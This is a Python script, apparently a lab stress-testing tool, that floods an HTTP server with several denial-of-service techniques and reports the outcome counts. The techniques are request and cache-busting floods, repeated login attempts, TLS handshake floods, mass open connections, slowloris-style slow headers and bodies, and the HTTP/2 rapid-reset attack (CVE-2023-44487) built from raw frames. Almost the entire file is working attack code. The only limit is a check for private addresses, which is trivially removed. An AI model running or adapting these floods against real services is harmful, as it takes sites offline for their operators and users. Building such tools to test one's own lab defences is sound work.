"""One bounded flood from a lab host, standard library only: `flood_from_host.py KIND ADDRESS SECONDS SOURCE,…`.

Prints as JSON how often what came of it. Refuses addresses that are not private: it is for lab hosts.
"""

import asyncio
import ipaddress
import json
import random
import resource
import ssl
import struct
import sys
import time
from collections import Counter

NAME = "board.example"
MOST = {"connections": 10_000, "slow-heads": 1000, "slow-bodies": 1000}  # at once; 64 for the others
BUSY = 64
TOTAL = 100_000  # of anything
STREAMS = 100  # opened and reset on one connection before the next is made


def context(protocol: str) -> ssl.SSLContext:
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE  # an attacker does not care
    made.set_alpn_protocols([protocol])
    return made


class Flood:
    """What is sent, from which addresses, until when; and what came of it."""

    def __init__(self, address: str, seconds: float, sources: list[str]) -> None:
        self.address, self.sources, self.end = address, sources, time.monotonic() + seconds
        self.seen: Counter[str] = Counter()
        self.plain, self.h2 = context("http/1.1"), context("h2")

    def goes_on(self) -> bool:
        return time.monotonic() < self.end and sum(self.seen.values()) < TOTAL

    async def open(self, tls: ssl.SSLContext | None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        local = (random.choice(self.sources), 0)  # noqa: S311  # any of them will do
        name = NAME if tls else None
        wait = asyncio.open_connection(self.address, 443, ssl=tls, server_hostname=name, local_addr=local)
        return await asyncio.wait_for(wait, 5)

    async def ask(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, text: str) -> None:
        writer.write(text.encode())
        await writer.drain()
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        self.seen[head.split(None, 2)[1].decode()] += 1
        for line in head.lower().split(b"\r\n"):
            if line.startswith(b"content-length:"):
                await reader.readexactly(int(line.split(b":")[1]))

    async def requests(self, first_line: str, body: str = "") -> None:
        reader, writer = await self.open(self.plain)
        try:
            while self.goes_on():
                line = first_line.replace("RANDOM", str(random.getrandbits(60)))
                length = f"Content-Length: {len(body)}\r\n" if body else ""
                await self.ask(reader, writer, f"{line} HTTP/1.1\r\nHost: {NAME}\r\n{length}\r\n{body}")
        finally:
            writer.close()

    async def get(self) -> None:
        await self.requests("GET /front")

    async def busting(self) -> None:
        await self.requests("GET /front?RANDOM")

    async def login(self) -> None:
        await self.requests("POST /login", "name=ada&password=guess")

    async def handshakes(self) -> None:
        _, writer = await self.open(self.plain)
        self.seen["handshakes"] += 1
        writer.close()

    async def connections(self) -> None:
        _, writer = await self.open(None)
        self.seen["opened"] += 1
        await asyncio.sleep(max(self.end - time.monotonic(), 0))
        writer.close()

    async def slowly(self, beginning: str) -> None:
        _, writer = await self.open(self.plain)
        self.seen["opened"] += 1
        writer.write(beginning.encode())
        while self.goes_on():
            writer.write(b"x")
            await writer.drain()
            await asyncio.sleep(2)
        writer.close()

    async def slow_heads(self) -> None:
        await self.slowly(f"GET / HTTP/1.1\r\nHost: {NAME}\r\nX-Slow: ")

    async def slow_bodies(self) -> None:
        await self.slowly(f"POST /login HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: 100000\r\n\r\n")

    async def resets(self) -> None:
        """Streams of HTTP/2 opened and reset at once (CVE-2023-44487)."""
        _, writer = await self.open(self.h2)
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
        head = b"\x82\x87\x84\x41" + bytes([len(NAME)]) + NAME.encode()
        for number in range(STREAMS):
            stream = 2 * number + 1
            writer.write(frame(1, 5, stream, head) + frame(3, 0, stream, struct.pack("!I", 8)))
            self.seen["streams"] += 1
        await writer.drain()
        writer.close()

    async def again(self, work: str) -> None:
        while self.goes_on():
            try:
                await getattr(self, work)()
            except (OSError, TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ssl.SSLError) as err:
                self.seen[type(err).__name__] += 1
                await asyncio.sleep(0.05)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


async def main() -> None:
    kind, address, seconds, sources = sys.argv[1:]
    if not ipaddress.ip_address(address).is_private:
        sys.exit(f"{address} is no lab host's address")
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    flood = Flood(address, float(seconds), sources.split(","))
    workers = [asyncio.create_task(flood.again(kind.replace("-", "_"))) for _ in range(MOST.get(kind, BUSY))]
    await asyncio.wait(workers, timeout=float(seconds) + 10)
    print(json.dumps(flood.seen))


if __name__ == "__main__":
    asyncio.run(main())
